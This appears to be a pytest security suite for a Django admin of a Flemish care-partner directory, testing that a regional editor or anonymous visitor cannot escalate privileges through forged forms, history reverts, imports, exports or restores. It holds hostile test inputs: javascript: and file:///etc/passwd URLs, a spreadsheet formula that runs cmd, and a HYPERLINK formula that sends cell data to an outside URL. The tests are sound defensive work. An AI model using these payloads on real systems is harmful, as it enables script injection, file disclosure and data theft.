"""Issue 10, as an attacker would try it: an ELZ-redacteur of Leuven (or nobody) against the admin.

Every test goes through the real admin URLs, with a browser session that enforces CSRF (the token
is read from the form page, as a browser would send it), posts what the attacker would post, and
asserts that the database and the public pages are unchanged. Findings 1–9 are the review's
(issue 10); the tests after them are the other paths an attacker would try.
"""

import csv
import io
import re
from datetime import date

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from django.urls import reverse

from partners.models import Coverage, ImportUpload, Locality, Municipality, Organization, Phone, Region, Service, Theme
from tests.helpers.admin_forms import admin_url, form_data
from tests.helpers.second_factor import pass_second_factor

PASSWORD = "een-lang-wachtwoord-123"
CSRF = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')
CSV_FORMAT, XLSX_FORMAT = "0", "1"


# -- the attacker's browser ------------------------------------------------------------------


def browser_of(user) -> Client:
    browser = Client(enforce_csrf_checks=True)
    browser.force_login(user)
    return browser


@pytest.fixture
def an(make_editor, leuven):
    return make_editor("an", leuven)


@pytest.fixture
def attacker(an):
    """An, ELZ-redacteur of Leuven, in a browser that sends CSRF tokens only as a real one would."""
    return browser_of(an)


@pytest.fixture
def national(django_user_model, demo_content):
    user = django_user_model.objects.create_superuser("beheer", "beheer@example.org", PASSWORD)
    browser = browser_of(user)
    pass_second_factor(browser, user)
    return browser


def token(page) -> str:
    match = CSRF.search(page.content.decode())
    assert match, "no CSRF token on the page"
    return match.group(1)


def submit(browser, url, changes=None):
    """Open the form at `url`, take everything it shows plus `changes`, and post it with its CSRF token."""
    page = browser.get(url)
    assert page.status_code == 200, page.status_code
    return browser.post(url, {**form_data(page), "csrfmiddlewaretoken": token(page), **(changes or {})})


def post_with_token(browser, form_url, url, data):
    """Post `data` to `url` with the CSRF token of the page at `form_url`."""
    page = browser.get(form_url)
    assert page.status_code == 200, page.status_code
    return browser.post(url, {**data, "csrfmiddlewaretoken": token(page)})


def finder(*paths) -> dict:
    """What the finder on / answers a visitor: a redirect to one ELZ, or a page of choices."""
    visitor = Client()
    answers = {}
    for path in paths:
        response = visitor.get(path)
        assert response.status_code in (200, 302), path
        answers[path] = response.get("Location") or response.content.decode()
    return answers


def public(*paths) -> dict:
    visitor = Client()
    pages = {}
    for path in paths:
        response = visitor.get(path)
        assert response.status_code == 200, path
        pages[path] = response.content.decode()
    return pages


ZENNE_PAGES = (
    "/zenne/",
    "/zenne/acuut/",
    "/zenne/partnerkaart/",
    "/zenne/wegwijzer/actie/?urgentie=ondersteuning&erkenning=ja&leeftijd=0-3&thema=jonge-kind",
    "/zenne/wegwijzer/bespreek/?thema=armoede",
)
LEUVEN_PAGES = ("/leuven/partnerkaart/", "/leuven/contactfiche/", "/leuven/acuut/")


def inline_index(data: dict, prefix: str, pk: int) -> int:
    return next(
        int(key.split("-")[1])
        for key, value in data.items()
        if key.startswith(f"{prefix}-") and key.endswith("-id") and value == str(pk)
    )


# -- finding 1: the services inline on an organisation --------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("coverage", [{"coverage": "flanders"}, {"coverage": "province", "province": "antwerpen"}])
def test_1_services_inline_cannot_publish_a_service_in_every_region(attacker, leuven, zenne, coverage):
    organization = Organization.objects.filter(region=leuven, services__isnull=False).order_by("pk").first()
    service = organization.services.order_by("pk").first()
    before, pages = Service.objects.filter(pk=service.pk).values().get(), public(*ZENNE_PAGES)

    url = admin_url(organization)
    page = attacker.get(url)
    data = form_data(page)
    n = inline_index(data, "services", service.pk)
    forged = {**data, **{f"services-{n}-{field}": value for field, value in coverage.items()}, "csrfmiddlewaretoken": token(page)}
    response = attacker.post(url, forged)

    assert response.status_code in (200, 302, 403)  # never 500
    assert Service.objects.filter(pk=service.pk).values().get() == before
    assert public(*ZENNE_PAGES) == pages


@pytest.mark.django_db
def test_1_provincial_coverage_in_the_inline_asks_for_the_province(national, leuven):
    """The redactie Vlaanderen may choose a province there; without one it gets a form error, not a 500."""
    organization = Organization.objects.filter(region=leuven, services__isnull=False).order_by("pk").first()
    service = organization.services.order_by("pk").first()
    page = national.get(admin_url(organization))
    data = form_data(page)
    n = inline_index(data, "services", service.pk)
    response = national.post(admin_url(organization), {**data, f"services-{n}-coverage": "province", f"services-{n}-province": "",
                                                       "csrfmiddlewaretoken": token(page)})  # fmt: skip
    assert response.status_code == 200
    assert "Kies de provincie waarin deze dienst werkt." in response.content.decode()
    assert Service.objects.get(pk=service.pk).coverage == Coverage.REGIONS


# -- finding 2: simple-history's revert ------------------------------------------------------


def revert_url(obj, version) -> str:
    opts = obj._meta
    return reverse(f"admin:{opts.app_label}_{opts.model_name}_simple_history", args=[obj.pk, version.history_id])


@pytest.mark.django_db
def test_2_revert_cannot_bring_back_coverage_or_verification(attacker, zenne):
    service = Service.objects.get(key="kind-en-gezin-leuven")
    # Its history, as the redactie Vlaanderen left it: once for all of Flanders and verified by them.
    service.coverage, service.assured_date, service.assured_by = Coverage.FLANDERS, date(2025, 1, 6), "Redactie Vlaanderen"
    service.save()
    wide = service.history.latest()
    service.coverage, service.assured_date, service.assured_by = Coverage.REGIONS, None, ""
    service.save()
    before, pages = Service.objects.filter(pk=service.pk).values().get(), public(*ZENNE_PAGES)

    response = submit(attacker, revert_url(service, wide))

    assert response.status_code in (200, 403)
    assert "Alleen de redactie Vlaanderen kan ‘werkgebied’ wijzigen." in response.content.decode()
    assert Service.objects.filter(pk=service.pk).values().get() == before
    assert public(*ZENNE_PAGES) == pages


@pytest.mark.django_db
def test_2_revert_cannot_bring_back_a_region_slug(attacker, leuven):
    leuven.slug = "leuven-oud"
    leuven.save()
    old = leuven.history.latest()
    leuven.slug = "leuven"
    leuven.save()
    pages = public(*LEUVEN_PAGES)

    response = submit(attacker, revert_url(leuven, old))

    assert response.status_code in (200, 403)
    assert Region.objects.get(pk=leuven.pk).slug == "leuven"
    assert public(*LEUVEN_PAGES) == pages


@pytest.fixture
def spare_service(leuven):
    """A Leuven service on no card, with a phone, so it can be deleted."""
    organization = Organization.objects.create(name="Babbelpunt", region=leuven)
    service = Service.objects.create(organization=organization, key="babbelpunt", name="Babbelpunt", description="Praten.")
    service.regions.add(leuven)
    Phone.objects.create(service=service, number="016 24 24 24")
    return service


@pytest.mark.django_db
def test_2_reverting_a_deleted_service_is_not_an_error(attacker, spare_service):
    pk = spare_service.pk
    version = spare_service.history.latest()
    delete = admin_url(spare_service, "delete")
    assert post_with_token(attacker, delete, delete, {"post": "yes"}).status_code == 302
    assert not Service.objects.filter(pk=pk).exists()

    response = submit(attacker, revert_url(spare_service, version))

    assert response.status_code == 302
    assert Service.objects.get(pk=pk).name == "Babbelpunt"


# -- finding 3: import without model validation ---------------------------------------------


def export(browser, model_name, fmt=CSV_FORMAT) -> bytes:
    url = reverse(f"admin:partners_{model_name}_export")
    response = post_with_token(browser, url, url, {"format": fmt, "resource": "0"})
    assert response.status_code == 200
    return response.content


def rows_of(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def to_csv(rows: list[dict]) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def upload(browser, model_name, content: bytes):
    url = reverse(f"admin:partners_{model_name}_import")
    return post_with_token(browser, url, url, {"import_file": SimpleUploadedFile("bestand.csv", content), "format": CSV_FORMAT,
                                               "resource": "0"})  # fmt: skip


def confirm_anyway(browser, model_name):
    """The confirm step, forged with the name of the last upload (as if the attacker knew it)."""
    name = ImportUpload.objects.order_by("-created_at", "-pk").values_list("name", flat=True).first()
    url = reverse(f"admin:partners_{model_name}_import")
    data = {"import_file_name": name or "", "original_file_name": "bestand.csv", "format": CSV_FORMAT, "resource": "0"}
    return post_with_token(browser, url, reverse(f"admin:partners_{model_name}_process_import"), data)


@pytest.mark.django_db
@pytest.mark.parametrize(
    "changes",
    [
        {"website": "javascript:alert(document.domain)//"},
        {"website": "file:///etc/passwd"},
        {"postcode": "ABCDEFGH"},
        {"leeftijd_vanaf_maanden": "500", "leeftijd_tot_maanden": "1"},
        {"nagekeken_op": "2099-12-31"},
        {"nagekeken_door": "Redactie Vlaanderen"},
    ],
    ids=["javascript-url", "file-url", "postcode", "ages", "future-date", "verified-by"],
)
def test_3_import_validates_every_row_like_the_form(attacker, changes):
    rows = [row for row in rows_of(export(attacker, "service")) if row["sleutel"] == "kind-en-gezin-leuven"]
    rows[0].update(changes)
    before, pages = Service.objects.filter(key="kind-en-gezin-leuven").values().get(), public(*LEUVEN_PAGES)

    previewed = upload(attacker, "service", to_csv(rows))
    assert previewed.status_code == 200
    assert [row["label"] for row in previewed.context["rows"]] == ["geweigerd"]
    assert previewed.context.get("confirm_form") is None
    confirm_anyway(attacker, "service")

    assert Service.objects.filter(key="kind-en-gezin-leuven").values().get() == before
    assert public(*LEUVEN_PAGES) == pages
    assert "javascript:" not in public(*LEUVEN_PAGES)["/leuven/partnerkaart/"]


@pytest.mark.django_db
@pytest.mark.parametrize("url", ["javascript:alert(document.domain)//", "ftp://files.example.org/brochure.pdf"])
def test_3_an_admin_form_refuses_a_url_that_is_not_http_too(attacker, url):
    service = Service.objects.get(key="kind-en-gezin-leuven")
    before = service.url
    response = submit(attacker, admin_url(service), {"url": url})
    assert response.status_code == 200
    assert "url" in response.context["adminform"].form.errors
    assert Service.objects.get(pk=service.pk).url == before


# -- finding 4: formulae in exports ----------------------------------------------------------


@pytest.mark.django_db
def test_4_a_formula_in_a_description_exports_as_inert_text(attacker):
    formula = '=HYPERLINK("https://example.org/?d="&A2,"Klik hier")'
    Service.objects.filter(key="kind-en-gezin-leuven").update(description=formula)

    sheet = openpyxl.load_workbook(io.BytesIO(export(attacker, "service", XLSX_FORMAT))).active
    header = [cell.value for cell in sheet[1]]
    column = header.index("omschrijving")
    key_column = header.index("sleutel")
    cell = next(row[column] for row in sheet.iter_rows(min_row=2) if row[key_column].value == "kind-en-gezin-leuven")
    assert cell.data_type == "s"  # a string, not a formula ("f")
    assert not str(cell.value).startswith("=")
    assert "HYPERLINK" in str(cell.value)  # the text itself is still there


@pytest.mark.django_db
def test_4_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_import_back_unchanged(attacker, leuven):
    from partners.staff.spreadsheets import quote_formula

    keys = list(Service.objects.filter(organization__region=leuven).order_by("key").values_list("key", flat=True)[:2])
    texts = dict(zip(keys, ["@SUM(1+1)*cmd|' /C calc'!A0", '+HYPERLINK("https://example.org")'], strict=True))
    for key, text in texts.items():
        Service.objects.filter(key=key).update(description=text)

    rows = {row["sleutel"]: row for row in rows_of(export(attacker, "service"))}
    for key, text in texts.items():
        assert rows[key]["omschrijving"] == "'" + text
    assert quote_formula("-9") == "-9"  # a negative age stays a number

    previewed = upload(attacker, "service", to_csv([rows[key] for key in texts]))
    assert [row["label"] for row in previewed.context["rows"]] == ["ongewijzigd", "ongewijzigd"]
    assert {key: Service.objects.get(key=key).description for key in texts} == texts


# -- finding 5: logins behind the proxy ------------------------------------------------------


def login(browser, username, password):
    url = reverse("admin:login") + "?next=/admin/"
    return post_with_token(browser, url, url, {"username": username, "password": password})


@pytest.fixture
def behind_nginx(settings, monkeypatch):
    """The settings that wegwijzer/settings.py makes of AXES_PROXY_COUNT=1 (docs/deploy.md):
    nginx at 127.0.0.1 replaces X-Forwarded-For with the client's address."""
    import runpy
    from pathlib import Path

    import wegwijzer.settings

    monkeypatch.setenv("AXES_PROXY_COUNT", "1")
    monkeypatch.setenv("SECRET_KEY", "x")
    made = runpy.run_path(str(Path(wegwijzer.settings.__file__)))
    for name in ("WEGWIJZER_PROXY_COUNT", "AXES_CLIENT_IP_CALLABLE", "AXES_LOCKOUT_PARAMETERS"):
        if name in made:
            setattr(settings, name, made[name])


@pytest.mark.django_db
def test_5_behind_the_proxy_one_clients_failures_lock_out_only_that_client(an, behind_nginx):
    an.set_password(PASSWORD)
    an.save()
    guesser = Client(enforce_csrf_checks=True, REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="198.51.100.23")
    for _ in range(4):
        assert login(guesser, "an", "fout").status_code == 200
    assert login(guesser, "an", "fout").status_code == 429
    assert login(guesser, "an", PASSWORD).status_code == 429  # that client stays locked out

    colleague = Client(enforce_csrf_checks=True, REMOTE_ADDR="127.0.0.1", HTTP_X_FORWARDED_FOR="192.0.2.10")
    assert login(colleague, "an", PASSWORD).status_code == 302


# -- finding 6: saving a region keeps the national exclusions --------------------------------


@pytest.mark.django_db
def test_6_saving_the_region_keeps_exclusions_of_the_redactie_vlaanderen(attacker, leuven):
    shown = Service.objects.filter(organization__region__isnull=True, entries__section__region=leuven).order_by("pk").first()
    elsewhere = Service.objects.create(
        organization=Organization.objects.create(name="Provinciaal Steunpunt Antwerpen"),
        key="steunpunt-antwerpen", name="Provinciaal Steunpunt Antwerpen", coverage=Coverage.PROVINCE, province="antwerpen",
    )  # fmt: skip
    leuven.excluded_services.add(shown, elsewhere)  # by the redactie Vlaanderen
    pages = public(*LEUVEN_PAGES)
    assert shown.name not in pages["/leuven/partnerkaart/"]

    response = submit(attacker, admin_url(leuven), {"contact_email": "info@elzleuven.be"})

    assert response.status_code == 302
    assert set(Region.objects.get(pk=leuven.pk).excluded_services.all()) == {shown, elsewhere}
    assert public(*LEUVEN_PAGES) == pages


# -- finding 7: postcodes and gemeenten ------------------------------------------------------
# Since the real geography (fixtures/geo) a region is a zone and its municipalities: reference
# data that no ELZ editor writes, and that the new-ELZ page can only pick, never move.


@pytest.mark.django_db
def test_7_editor_cannot_claim_another_regions_postcode(attacker, leuven, zenne):
    before = finder("/?postcode=1500", "/?q=Halle")
    zones = dict(Region.objects.values_list("slug", "zone_id"))
    localities = sorted(map(str, Locality.objects.values_list("name", "postcode", "zones")))
    page = attacker.get(admin_url(leuven))
    data = form_data(page)
    # A forged zone on the region's own form: the field is read-only for an editor.
    response = attacker.post(admin_url(leuven), {**data, "zone": str(zenne.zone_id), "csrfmiddlewaretoken": token(page)})
    assert response.status_code in (200, 302, 403)
    # Adding Halle to Leuven's zone, straight to the zone admin's add and change URLs.
    halle = Municipality.objects.get(postcodes__code="1500")
    leuven_zone = leuven.zone
    add = attacker.post(reverse("admin:partners_zone_add"), {"name": "Leuven en Halle", "slug": "leuven-halle", "municipalities": [halle.pk], "csrfmiddlewaretoken": token(page)})  # fmt: skip
    assert add.status_code == 403
    claimed = attacker.post(admin_url(leuven_zone), {"name": leuven_zone.name, "municipalities": [halle.pk], "csrfmiddlewaretoken": token(page)})  # fmt: skip
    assert claimed.status_code == 403
    # Moving the municipality of Halle into Leuven's zone through the reference admin.
    moved = attacker.post(
        admin_url(halle), {"name_nl": halle.name_nl, "zones": [leuven.zone_id], "csrfmiddlewaretoken": token(page)}
    )
    assert moved.status_code == 403

    assert dict(Region.objects.values_list("slug", "zone_id")) == zones
    assert sorted(map(str, Locality.objects.values_list("name", "postcode", "zones"))) == localities
    assert list(halle.zones.values_list("slug", flat=True)) == ["zennevallei"]
    assert finder("/?postcode=1500", "/?q=Halle") == before


@pytest.mark.django_db
def test_7_a_new_elz_cannot_take_over_a_zone_that_has_its_own_map(national, leuven):
    before = Region.objects.filter(pk=leuven.pk).values().get()
    found = finder("/?postcode=3000")
    url = reverse("admin:new_region")
    response = post_with_token(national, url, url, {"zone": "leuven", "name": "ELZ Overname"})
    assert response.status_code == 200
    assert "Selecteer een geldige keuze" in response.content.decode()
    assert Region.objects.filter(pk=leuven.pk).values().get() == before
    assert not Region.objects.filter(name="ELZ Overname").exists()
    assert finder("/?postcode=3000") == found


@pytest.mark.django_db
def test_7_a_duplicate_elz_name_is_a_form_error(national, leuven):
    westhoek = Region.objects.filter(slug="westhoek").values().get()
    url = reverse("admin:new_region")
    response = post_with_token(national, url, url, {"zone": "westhoek", "name": "ELZ Leuven"})
    assert response.status_code == 200
    assert "Er bestaat al een eerstelijnszone met de naam ‘ELZ Leuven’." in response.content.decode()
    assert Region.objects.filter(name="ELZ Leuven").count() == 1
    assert Region.objects.filter(slug="westhoek").values().get() == westhoek


# -- finding 8: restore when the key is taken again ------------------------------------------


@pytest.mark.django_db
def test_8_restore_when_the_key_is_taken_says_so(attacker, leuven, spare_service):
    pk = spare_service.pk
    delete = admin_url(spare_service, "delete")
    assert post_with_token(attacker, delete, delete, {"post": "yes"}).status_code == 302
    newcomer = Service.objects.create(
        organization=Organization.objects.get(name="Babbelpunt"), key="babbelpunt", name="Nieuw Babbelpunt"
    )
    deleted = [item for item in attacker.get(reverse("admin:dashboard")).context["deleted"] if item.label == "Babbelpunt"]
    pages = public(*LEUVEN_PAGES)

    response = post_with_token(attacker, deleted[0].restore_url, deleted[0].restore_url, {})
    assert response.status_code == 302
    followed = attacker.get(response["Location"]).content.decode()
    assert "kan niet terug" in followed and "sleutel" in followed.lower()
    assert not Service.objects.filter(pk=pk).exists()
    assert Service.objects.get(key="babbelpunt").pk == newcomer.pk
    assert public(*LEUVEN_PAGES) == pages


# -- finding 9: a shared organisation's page ---------------------------------------------------


@pytest.mark.django_db
def test_9_shared_organisation_lists_only_services_the_editor_may_open(attacker, leuven):
    shared = Organization.objects.create(name="Vlaamse Lijn")
    covering = Service.objects.create(organization=shared, key="lijn-vlaanderen", name="Lijn voor heel Vlaanderen",
                                      coverage=Coverage.FLANDERS)  # fmt: skip
    hidden = Service.objects.create(organization=shared, key="lijn-antwerpen", name="Lijn alleen voor Antwerpen",
                                    coverage=Coverage.PROVINCE, province="antwerpen")  # fmt: skip
    page = attacker.get(admin_url(shared))
    assert page.status_code == 200
    text = page.content.decode()
    assert covering.name in text
    assert hidden.name not in text
    assert attacker.get(admin_url(hidden)).status_code == 403


# -- other paths an attacker would try -------------------------------------------------------


@pytest.mark.django_db
def test_anonymous_post_to_the_admin_changes_nothing(leuven):
    service = Service.objects.get(key="kind-en-gezin-leuven")
    before = Service.objects.filter(pk=service.pk).values().get()
    nobody = Client(enforce_csrf_checks=True)
    login_page = nobody.get(reverse("admin:login"))
    response = nobody.post(
        admin_url(service), {"name": "Gekaapt", "coverage": "flanders", "csrfmiddlewaretoken": token(login_page)}
    )
    assert response.status_code == 302 and response["Location"].startswith(reverse("admin:login"))
    assert Service.objects.filter(pk=service.pk).values().get() == before


@pytest.mark.django_db
def test_import_confirm_with_another_sessions_or_a_made_up_upload_imports_nothing(attacker, make_editor, zenne):
    """The upload id in the confirm step is bound to the session that previewed it; a missing one is no 500."""
    zenne_browser = browser_of(make_editor("zoë", zenne))
    rows = rows_of(export(zenne_browser, "service"))
    rows[0]["omschrijving"] = "Door An veranderd."
    previewed = upload(zenne_browser, "service", to_csv(rows))
    assert previewed.context["confirm_form"] is not None  # Zoë may import this into her own region
    before = Service.objects.get(key=rows[0]["sleutel"]).description

    swapped = confirm_anyway(attacker, "service")
    assert swapped.status_code == 302
    assert Service.objects.get(key=rows[0]["sleutel"]).description == before

    ImportUpload.objects.all().delete()
    made_up = confirm_anyway(attacker, "service")
    assert made_up.status_code == 302
    assert "niet (meer) beschikbaar" in attacker.get(made_up["Location"]).content.decode()


@pytest.mark.django_db
def test_list_editable_and_bulk_actions_cannot_write_what_the_form_cannot(attacker, zenne):
    theme = Theme.objects.order_by("pk").first()
    changelist = reverse("admin:partners_theme_changelist")
    page = attacker.get(changelist)
    assert page.status_code == 200
    forged = {"form-TOTAL_FORMS": "1", "form-INITIAL_FORMS": "1", "form-0-id": str(theme.pk), "form-0-order": "99", "_save": "Opslaan",
              "csrfmiddlewaretoken": token(page)}  # fmt: skip
    assert attacker.post(changelist, forged).status_code in (200, 302, 403)
    assert Theme.objects.get(pk=theme.pk).order == theme.order

    other = Service.objects.get(key="hvhk-halle")
    services = reverse("admin:partners_service_changelist")
    page = attacker.get(services)
    action = {"action": "mark_verified", "_selected_action": [other.pk], "csrfmiddlewaretoken": token(page)}
    assert attacker.post(services, action).status_code in (200, 302)
    assert Service.objects.get(pk=other.pk).assured_date is None


@pytest.mark.django_db
def test_history_and_export_of_another_region_stay_closed(attacker, zenne):
    from partners.models import Resource

    resource = Resource.objects.get(region=zenne)
    pk = resource.pk
    resource.delete()
    record = Resource.history.filter(id=pk).latest()
    assert attacker.get(reverse("admin:partners_resource_history", args=[pk])).status_code == 403
    url = reverse("admin:partners_resource_simple_history", args=[pk, record.history_id])
    assert attacker.get(url).status_code == 403

    url = reverse("admin:partners_service_export") + f"?organization__region__id__exact={zenne.pk}"
    response = post_with_token(attacker, url, url, {"format": CSV_FORMAT, "resource": "0"})
    assert rows_of(response.content) == []


@pytest.mark.django_db
def test_popup_to_field_and_autocomplete_tricks_answer_no_500(attacker, zenne):
    add = reverse("admin:partners_service_add")
    assert attacker.get(add, {"_popup": "1", "_to_field": "assured_by"}).status_code in (200, 400)
    autocomplete = reverse("admin:autocomplete")
    users = attacker.get(autocomplete, {"app_label": "partners", "model_name": "editor", "field_name": "user", "term": "a"})
    assert users.status_code == 403  # no list of usernames
    exclusions = attacker.get(autocomplete, {"app_label": "partners", "model_name": "region", "field_name": "excluded_services",
                                             "term": "Huis"})  # fmt: skip
    found = {item["text"] for item in exclusions.json()["results"]} if exclusions.status_code == 200 else set()
    assert "Huis van het Kind Halle" not in found


@pytest.mark.django_db
def test_restore_brings_back_coverage_regions_the_editor_cannot_choose(attacker, zenne, spare_service):
    """The guard refuses an editor adding another region; a restore puts back what was there, and may."""
    spare_service.regions.add(zenne)  # by the redactie Vlaanderen
    pk = spare_service.pk
    delete = admin_url(spare_service, "delete")
    assert post_with_token(attacker, delete, delete, {"post": "yes"}).status_code == 302
    deleted = [item for item in attacker.get(reverse("admin:dashboard")).context["deleted"] if item.label == "Babbelpunt"]
    assert post_with_token(attacker, deleted[0].restore_url, deleted[0].restore_url, {}).status_code == 302
    assert set(Service.objects.get(pk=pk).regions.values_list("slug", flat=True)) == {"leuven", "zenne"}


@pytest.mark.django_db
def test_a_path_added_later_is_guarded_without_doing_anything(an, leuven, zenne):
    """Any code that writes on an editor's behalf (here: plain ORM calls, as a new view would make)."""
    from partners.models import Entry, Resource, Section
    from partners.staff import guard

    own = Service.objects.get(key="kind-en-gezin-leuven")
    other = Service.objects.get(key="hvhk-halle")
    section = Section.objects.filter(region=leuven).order_by("pk").first()
    with guard.acting_as(an):
        own.coverage = Coverage.FLANDERS
        with pytest.raises(guard.Refused, match="werkgebied"):
            own.save()
        with pytest.raises(guard.Refused):
            Locality.objects.create(
                name="Halle-Centrum", postcode="1500", municipality=Municipality.objects.get(postcodes__code="1500")
            )
        with pytest.raises(guard.Refused, match="andere eerstelijnszone"):
            Entry.objects.create(section=section, service=other, order=99)
        # A refused many-to-many change or delete spoils the transaction it is in (as the admin's
        # POST transaction is rolled back): each gets its own here.
        with pytest.raises(guard.Refused), transaction.atomic():
            zenne.covered_services.add(own)  # the reverse side of a service's coverage
        with pytest.raises(guard.Refused), transaction.atomic():
            own.regions.add(zenne)
        other_resource = Resource.objects.get(region=zenne)
        with pytest.raises(guard.Refused), transaction.atomic():
            other_resource.delete()
    assert Service.objects.get(pk=own.pk).coverage == Coverage.REGIONS
    assert not Entry.objects.filter(section=section, service=other).exists()
    assert not Locality.objects.filter(name="Halle-Centrum").exists()
    assert not own.regions.filter(pk=zenne.pk).exists()
    assert Resource.objects.filter(region=zenne).exists()


@pytest.mark.django_db
def test_a_refused_write_rolls_back_the_whole_admin_post_and_says_why_in_dutch(an, rf):
    """What the admin site does around every view: one transaction per POST, a Dutch 403 on refusal."""
    from django.contrib import admin

    from partners.staff import guard

    service = Service.objects.get(key="kind-en-gezin-leuven")
    before = Service.objects.filter(pk=service.pk).values().get()

    def a_view_that_writes_twice(request):
        service.name = "Eerst bewaard"
        service.save()  # allowed
        service.coverage = Coverage.FLANDERS
        service.save()  # refused: the first save must not stay either
        raise AssertionError("not reached")

    request = rf.post("/admin/iets/")
    request.user, request._dont_enforce_csrf_checks = an, True
    with guard.acting_as(an):
        response = admin.site.admin_view(a_view_that_writes_twice)(request)
    response.render()
    assert response.status_code == 403
    text = response.content.decode()
    assert "Alleen de redactie Vlaanderen kan ‘werkgebied’ wijzigen." in text
    assert "Er is niets bewaard." in text
    assert Service.objects.filter(pk=service.pk).values().get() == before


@pytest.mark.django_db
def test_3_the_content_loader_refuses_a_link_that_is_not_http_too(demo_content, tmp_path):
    from partners.content.loader import ContentError, load_files

    content = tmp_path / "proef.yaml"
    content.write_text(
        "region:\n  slug: proef\n  name: ELZ Proef\n  province: limburg\n  zone: kemp-en-duin\n  website: javascript:alert(document.domain)//\n",
        encoding="utf-8",
    )
    with pytest.raises(ContentError, match="http:// of https://"):
        load_files([content])
    assert not Region.objects.filter(slug="proef").exists()


def test_every_inline_of_every_admin_is_scoped_and_every_form_guarded(rf):
    """A new admin or inline that skips the base classes would skip the form side of the guard."""
    from django.contrib import admin
    from django.contrib.auth.models import AnonymousUser

    from partners.staff.admin_base import GuardedForm, ScopedAdmin, ScopedInline

    request = rf.get("/admin/")
    request.user = AnonymousUser()
    for model_admin in admin.site._registry.values():
        if not isinstance(model_admin, ScopedAdmin):
            continue
        for inline in model_admin.inlines:
            assert issubclass(inline, ScopedInline), inline
        assert issubclass(model_admin.get_form(request), GuardedForm), model_admin


# -- anonymous requests ---------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_request_without_a_login_writes_no_content_outside_the_public_forms(leuven, rf):
    """A public view that writes by mistake is refused. The partner's link may write only the
    verification of its own service, and only as "today, de partner" (`partner_verifies`)."""
    import datetime

    from django.contrib.auth.models import AnonymousUser
    from django.utils import timezone
    from simple_history.models import HistoricalRecords

    from partners.lib.acting import partner_verifies
    from partners.staff.guard import Refused

    service, other = Service.objects.filter(organization__region=leuven)[:2]
    request = rf.post("/")
    request.user = AnonymousUser()
    HistoricalRecords.context.request = request
    try:
        service.description = "Overgenomen door een bezoeker"
        with pytest.raises(Refused):
            service.save()
        with partner_verifies(service.pk), pytest.raises(Refused):
            service.save()  # the link is for the verification, not the description
        service.refresh_from_db()
        service.assured_date, service.assured_by = timezone.localdate(), "de partner"
        with partner_verifies(other.pk), pytest.raises(Refused):
            service.save()  # another service's link
        with partner_verifies(service.pk), pytest.raises(Refused):
            service.assured_date = timezone.localdate() + datetime.timedelta(days=400)
            service.save()  # only today
        service.assured_date = timezone.localdate()
        with partner_verifies(service.pk):
            service.save()
        stored = Service.objects.get(pk=service.pk)
        assert stored.description != "Overgenomen door een bezoeker"
        assert (stored.assured_date, stored.assured_by) == (timezone.localdate(), "de partner")
    finally:
        del HistoricalRecords.context.request
